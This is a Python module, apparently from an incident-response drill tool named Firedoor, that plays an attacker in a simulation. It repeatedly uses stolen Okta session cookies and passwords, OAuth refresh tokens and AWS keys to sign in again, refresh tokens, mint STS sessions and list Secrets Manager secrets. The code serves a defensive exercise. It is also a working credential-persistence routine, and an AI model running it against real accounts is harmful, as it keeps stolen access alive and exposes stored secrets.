"""The attacker process of a drill: it keeps using what it stole, and adapts.

``python -m firedoor.exercise.attacker FOLDER`` reads ``loot.json`` and writes each attempt as a line of ``attempts.jsonl``. Every
`EVERY_SECONDS` it tries each foothold. Where a session no longer opens, it signs in again with the stolen password; where an OAuth token is
refused, it asks for a fresh one; where a session of AWS is refused, it mints another from the key. It knows nothing of Firedoor, and it
stops when the simulated vendors are gone.
"""

from __future__ import annotations

import asyncio
import json
import sys
import time
from abc import ABC, abstractmethod
from collections.abc import Mapping
from pathlib import Path
from typing import Any, TextIO

import aiohttp

EVERY_SECONDS = 0.2
GONE_AFTER = 10


class Foothold(ABC):
    """One way in. ``use`` tries it and tells how it went: the way that worked, or nothing."""

    name: str

    @abstractmethod
    async def use(self) -> str:
        """How it got in just now, empty where it did not. Raises `aiohttp.ClientError` or `OSError` where nobody answers at all."""


class StolenSession(Foothold):
    """An Okta session cookie, and the password behind it."""

    def __init__(self, http: aiohttp.ClientSession, login: str, loot: Mapping[str, Any]) -> None:
        self.name = f"okta session of {login}"
        self._http = http
        self._url = loot["okta_url"].rstrip("/")
        self._login = login
        self._password = loot["passwords"][login]
        self._sid = loot["sessions"][login]

    async def use(self) -> str:
        """The cookie, or a new sign-in."""
        if await self._works():
            return "session"
        token = await self._json("/api/v1/authn", {"username": self._login, "password": self._password}, "sessionToken")
        fresh = await self._json("/api/v1/sessions", {"sessionToken": token}, "id") if token else ""
        if not fresh:
            return ""
        self._sid = fresh
        return "signed in again" if await self._works() else ""

    async def _works(self) -> bool:
        async with self._http.get(f"{self._url}/api/v1/sessions/me", headers={"Cookie": f"sid={self._sid}"}) as reply:
            return reply.status == 200

    async def _json(self, path: str, body: Mapping[str, str], wanted: str) -> str:
        async with self._http.post(self._url + path, json=body) as reply:
            return str((await reply.json())[wanted]) if reply.status == 200 else ""


class StolenToken(Foothold):
    """An OAuth access token, and the refresh token it came with."""

    def __init__(self, http: aiohttp.ClientSession, loot: Mapping[str, Any]) -> None:
        self.name = f"oauth token of {loot['oauth']['login']}"
        self._http = http
        self._url = loot["okta_url"].rstrip("/")
        self._refresh = loot["oauth"]["refresh"]
        self._access = loot["oauth"]["access"]

    async def use(self) -> str:
        """The access token, or a fresh one."""
        if await self._works():
            return "access token"
        form = {"grant_type": "refresh_token", "refresh_token": self._refresh}
        async with self._http.post(f"{self._url}/oauth2/v1/token", data=form) as reply:
            if reply.status != 200:
                return ""
            fresh = await reply.json()
        self._access, self._refresh = fresh["access_token"], fresh.get("refresh_token", self._refresh)
        return "refreshed" if await self._works() else ""

    async def _works(self) -> bool:
        async with self._http.get(f"{self._url}/oauth2/v1/userinfo", headers={"Authorization": f"Bearer {self._access}"}) as reply:
            return reply.status == 200


class StolenKey(Foothold):
    """An AWS access key, used as it is."""

    def __init__(self, loot: Mapping[str, Any]) -> None:
        self.name = f"aws key of {loot['aws']['user']}"
        self._clients = _aws(loot, loot["aws"]["key_id"], loot["aws"]["secret"])

    async def use(self) -> str:
        """List the account's secrets."""
        return "key" if await asyncio.to_thread(_lists_secrets, self._clients) else ""


class MintedSession(Foothold):
    """A session minted from the key; minted anew where that still works."""

    def __init__(self, loot: Mapping[str, Any]) -> None:
        self.name = f"sts session of {loot['aws']['user']}"
        self._loot = loot
        self._key = _aws(loot, loot["aws"]["key_id"], loot["aws"]["secret"])
        self._session: dict[str, Any] | None = None

    async def use(self) -> str:
        """The session, or another one."""
        if self._session is not None and await asyncio.to_thread(_lists_secrets, self._session):
            return "session"
        fresh: Mapping[str, Any] | None = await asyncio.to_thread(_mint, self._key)
        if fresh is None:
            return ""
        self._session = _aws(self._loot, fresh["AccessKeyId"], fresh["SecretAccessKey"], fresh["SessionToken"])
        return "minted again" if await asyncio.to_thread(_lists_secrets, self._session) else ""


def _aws(loot: Mapping[str, Any], key_id: str, secret: str, token: str | None = None) -> dict[str, Any]:
    import boto3  # noqa: PLC0415 - half a second, paid once the Okta footholds are running
    from botocore.config import Config  # noqa: PLC0415

    session = boto3.Session(aws_access_key_id=key_id, aws_secret_access_key=secret, aws_session_token=token, region_name="us-east-1")
    config = Config(connect_timeout=2, read_timeout=5, retries={"total_max_attempts": 1})
    return {name: session.client(name, endpoint_url=loot["aws_url"], config=config) for name in ("sts", "secretsmanager")}


def _lists_secrets(clients: dict[str, Any]) -> bool:
    from botocore.exceptions import ClientError  # noqa: PLC0415

    try:
        clients["secretsmanager"].list_secrets()
    except ClientError:
        return False
    return True


def _mint(clients: dict[str, Any]) -> Mapping[str, Any] | None:
    from botocore.exceptions import ClientError  # noqa: PLC0415

    try:
        minted: Mapping[str, Any] = clients["sts"].get_session_token()["Credentials"]
    except ClientError:
        return None
    return minted


async def _hammer(foothold: Foothold, log: TextIO) -> None:
    """Try one foothold until nobody answers any more."""
    unanswered = 0
    while unanswered < GONE_AFTER:
        began = time.time()
        try:
            how = await foothold.use()
            unanswered = 0
            # The moment of the answer, not of the attempt: a later success never flatters the defender.
            line = {"at": time.time(), "foothold": foothold.name, "ok": bool(how), "how": how}
            log.write(json.dumps(line) + "\n")
            log.flush()
        except Exception:  # noqa: BLE001 - the vendors are gone, or going: an attacker tries again whatever the error
            unanswered += 1
        await asyncio.sleep(max(0.0, EVERY_SECONDS - (time.time() - began)))


async def run(folder: Path) -> None:
    """Attack until the world is gone."""
    loot = json.loads((folder / "loot.json").read_text(encoding="utf-8"))
    async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar(), timeout=aiohttp.ClientTimeout(total=5)) as http:
        footholds: list[Foothold] = [StolenSession(http, login, loot) for login in loot["sessions"]]
        footholds += [StolenToken(http, loot), StolenKey(loot), MintedSession(loot)]
        with (folder / "attempts.jsonl").open("a", encoding="utf-8") as log:
            await asyncio.gather(*(_hammer(foothold, log) for foothold in footholds))


if __name__ == "__main__":
    asyncio.run(run(Path(sys.argv[1])))
